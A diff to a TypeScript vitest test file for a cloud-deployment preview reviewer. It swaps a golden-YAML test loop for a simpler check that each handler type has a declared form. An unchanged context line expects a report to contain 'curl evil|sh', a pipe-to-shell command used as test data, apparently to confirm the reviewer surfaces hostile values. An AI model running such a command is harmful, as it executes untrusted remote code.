@@ -1,11 +1,9 @@
-import { readdirSync, readFileSync } from "node:fs";
 import { describe, expect, test } from "vitest";
-import { parse } from "yaml";
 import { handlers } from "../../provider/handlers/index.ts";
 import { htmlOf } from "../../review/page/html.ts";
 import { markdownOf } from "../../review/page/markdown.ts";
 import { outlineOf } from "../../review/page/outline.ts";
-import { isKnownProperty, isKnownType } from "../../review/preview/declared-types.ts";
+import { formOf } from "../../review/preview/declared-types.ts";
 import { readPreview } from "../../review/preview/preview.ts";
 import { reportOfPreview } from "../../review/preview/report-of-preview.ts";
 import { refuseOtherStack } from "../../review/preview/same-stack.ts";
@@ -109,30 +107,7 @@ describe("what no rule looks into", () => {
     expect(JSON.stringify(report.resources.map(({ values }) => values))).toContain("curl evil|sh");
   });
 
-  const goldens = new URL("../golden/", import.meta.url);
-  type Graph = Record<string, { inputs?: object }>;
-  const graphs = readdirSync(goldens)
-    .filter((name) => name.endsWith(".yaml"))
-    .map((name): [string, Planned[]] => {
-      const graph = parse(readFileSync(new URL(name, goldens), "utf8")) as Graph;
-      const made = Object.entries(graph).map(([key, { inputs }]) => {
-        const [, called = "", type = ""] = /^(.*) \((.*)\)$/.exec(key) ?? [];
-        return { type, name: called, after: { ...inputs } };
-      });
-      return [name, made.filter(({ type }) => !/^nemoclaw:index:(Aws|Gcp)Machine$/.test(type))];
-    });
-  const declared = graphs.flatMap(([, made]) => made);
-
-  test("is nothing that this project's own components make", () => {
-    const types = [...new Set([...declared.map(({ type }) => type), ...handlers.map(({ type }) => type)])];
-    const ofCloud = (type: string) => !type.startsWith("pulumi:providers:");
-    expect(types.filter((type) => ofCloud(type) && !isKnownType(type))).toEqual([]);
-    const given = declared.flatMap(({ type, after = {} }) => Object.keys(after).map((property) => [type, property]));
-    expect(given.filter(([type = "", property = ""]) => ofCloud(type) && !isKnownProperty(type, property))).toEqual([]);
-  });
-
-  test.each(graphs)("a whole cloud machine that is new: %s", (_, made) => {
-    const report = reviewed(...made);
-    expect([report.unjudged, report.settings]).toEqual([[], []]);
+  test("is nothing of this package's own", () => {
+    expect(handlers.filter(({ type }) => formOf(type) === undefined)).toEqual([]);
   });
 });
